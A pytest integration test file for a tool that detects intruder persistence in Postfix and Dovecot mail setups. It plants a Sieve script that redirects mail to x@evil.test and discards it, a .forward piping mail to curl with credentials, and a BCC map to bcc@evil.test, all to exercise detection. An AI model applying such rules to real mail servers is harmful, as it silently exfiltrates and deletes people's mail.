# Copyright: (c) 2026, the Good Standing developers
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""What an intruder left, on both hosts' real Postfix, Dovecot and Pigeonhole: found, told from what was there, out of force and back."""

from __future__ import annotations

import json
import sys
import time
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).parent))
from lab import HOSTS, lab, on, playbook

OWNER = "erin@alpha.test"
HOME = "/var/vmail/alpha.test/erin"
EVIL = f"{HOME}/sieve/evil.sieve"
OWN = f"{HOME}/sieve/own.sieve"
# Filtering is off in the lab: the delivery of local mail runs scripts from here on.
SIEVE = """
case $(dovecot --version) in
2.3*) printf 'protocol lmtp {\\n mail_plugins = sieve\\n}\\n' ;;
*) printf 'protocol lmtp {\\n mail_plugins {\\n sieve = yes\\n }\\n}\\n' ;;
esac >>/etc/dovecot/dovecot.conf
doveadm reload
"""
since: dict[str, float] = {}


def shell(host: str, script: str, data: str | None = None) -> str:
    return on(host, "sh", "-c", script, data=data)


def look(**given: object) -> dict[str, dict]:
    """Run the role's task for the owner's account; return what each host says."""
    variables = {"account_lock_accounts": [OWNER], **given}
    if since:
        variables["account_lock_persistence_since"] = max(since.values())
    playbook("persistence.yml", "-e", json.dumps(variables))
    return {host: json.loads(shell(host, "cat /var/tmp/persistence.json")) for host in HOSTS}


def found(said: dict[str, dict], host: str) -> dict[str, dict]:
    return {row["place"]: row for row in said[host]["persistence"]["findings"]}


def arrives(host: str, subject: str) -> bool:
    """Send a message to the owner on the host itself, and return whether it is in the inbox."""
    shell(host, f"printf 'Subject: {subject}\\n\\nx\\n' | sendmail -f bob@alpha.test {OWNER}; postqueue -f")
    for _ in range(6):
        if "@" not in shell(host, "postqueue -p"):
            break
        time.sleep(0.5)
    return bool(shell(host, f"doveadm search -u {OWNER} mailbox INBOX header subject {subject}").strip())


@pytest.fixture(scope="module", autouse=True)
def fresh():
    lab("reset")
    for host in HOSTS:
        shell(host, SIEVE)
        shell(host, f"doveadm sieve put -u {OWNER} -a own", data='require ["fileinto"];\nif header "x-list" "a" { fileinto "Lists"; }\n')


def test_an_inventory_of_peace_time_covers_everybody_and_returns_nothing():
    for host, said in look(account_lock_accounts=[], account_lock_persistence_everybody=True).items():
        assert said["persistence"]["findings"] == [], host
        assert said["persistence"]["inventoried"] > 5
        assert shell(host, "stat -c '%a %U' /var/lib/goodstanding/persistence.json").strip() == "600 root"
    time.sleep(1.1)
    since.update({host: float(shell(host, "date +%s")) for host in HOSTS})
    time.sleep(1.1)


def test_what_the_intruder_left_is_told_from_what_was_there():
    for host in HOSTS:
        shell(host, f"doveadm sieve put -u {OWNER} -a evil", data='require ["copy"];\nredirect :copy "x@evil.test";\ndiscard;\n')
        shell(host, f"printf '%s\\n' '\"|/usr/bin/curl -u user:CANARY\"' >{HOME}/.forward")
        shell(host, f"postconf -e 'recipient_bcc_maps = inline:{{ {OWNER}=bcc@evil.test }}'")
    for said in (look(), look()):
        for host in HOSTS:
            rows = found(said, host)
            # own was active in peace time and is not now: that is a change too.
            assert (rows[OWN]["state"], rows[OWN]["active"], rows[OWN]["touched_since"]) == ("changed", False, False), host
            assert (rows[EVIL]["state"], rows[EVIL]["active"], rows[EVIL]["touched_since"]) == ("new", True, True)
            assert (rows[EVIL]["does"], rows[EVIL]["targets"]) == (["copy", "discard everything", "redirect"], ["x@evil.test"])
            assert rows[f"{HOME}/.forward"]["targets"] == ["|/usr/bin/curl"]
            assert rows[f"inline:{{…}} {OWNER}"]["targets"] == ["bcc@evil.test"]
            assert said[host]["persistence"]["unreviewed"] == {OWNER: 4}
            assert said[host]["persistence"]["unknown"] == []
            assert "failed" not in said[host]["persistence"]
            text = json.dumps(said[host])
            assert "CANARY" not in text
            assert "pw-erin" not in text


def test_a_person_accepts_one_content():
    hashes = {host: found(look(), host)[EVIL]["sha256"] for host in HOSTS}
    accept = [{"account": OWNER, "place": EVIL, "sha256": hashes[HOSTS[0]], "reason": "a test"}]
    said = look(account_lock_persistence_accept=accept)
    assert {host: found(said, host)[EVIL]["state"] for host in HOSTS} == dict.fromkeys(HOSTS, "reviewed")
    shell(HOSTS[0], f"doveadm sieve put -u {OWNER} -a evil", data="discard;\n")
    said = look(account_lock_persistence_accept=accept)
    assert [found(said, host)[EVIL]["state"] for host in HOSTS] == ["new", "reviewed"]


def test_a_script_is_out_of_force_and_back():
    assert [arrives(host, "before") for host in HOSTS] == [False, False]
    said = look(place=EVIL, state="disabled")
    assert [said[host]["done"]["changed"] for host in HOSTS] == [True, True]
    assert [found(said, host)[EVIL]["disabled"] for host in HOSTS] == [True, True]
    assert [arrives(host, "disabled") for host in HOSTS] == [True, True]
    assert [row["done"]["changed"] for row in look(place=EVIL, state="disabled").values()] == [False, False]
    said = look(place=EVIL, state="enabled")
    assert [found(said, host)[EVIL]["active"] for host in HOSTS] == [True, True]
    assert [arrives(host, "enabled") for host in HOSTS] == [False, False]


def test_what_was_changed_meanwhile_stays_out():
    look(place=EVIL, state="disabled")
    for host in HOSTS:
        shell(host, f"echo keep\\; >>{EVIL}")
    for host, row in look(place=EVIL, state="enabled").items():
        assert "was changed since it was disabled" in row["done"]["msg"], host
        assert not found({host: row}, host)[EVIL]["active"]


def test_a_plain_file_in_place_of_the_link_filters_mail_and_is_found_although_dovecot_lists_none():
    for host in HOSTS:
        shell(host, f"rm -f {HOME}/.dovecot.sieve; echo discard\\; >{HOME}/.dovecot.sieve; chown vmail: {HOME}/.dovecot.sieve")
        assert "ACTIVE" not in shell(host, f"doveadm sieve list -u {OWNER}")
        assert not arrives(host, "plain")
    said = look()
    for host in HOSTS:
        row = found(said, host)[f"{HOME}/.dovecot.sieve"]
        assert (row["active"], row["does"]) == (True, ["discard everything"])


def test_passwords_in_clear_are_named_by_their_scheme():
    for host, said in look().items():
        rows = [row for row in said["audit"]["findings"] if row["account"] == OWNER]
        assert {(row["scheme"], row["grade"]) for row in rows} == {("PLAIN", "must")}, host


def test_what_cannot_be_read_is_not_clean():
    for host in HOSTS:
        on(host, "systemctl", "stop", "dovecot")
    for host, said in look().items():
        assert [(row["account"], row["what"]) for row in said["persistence"]["unknown"]] == [(OWNER, "home")], host
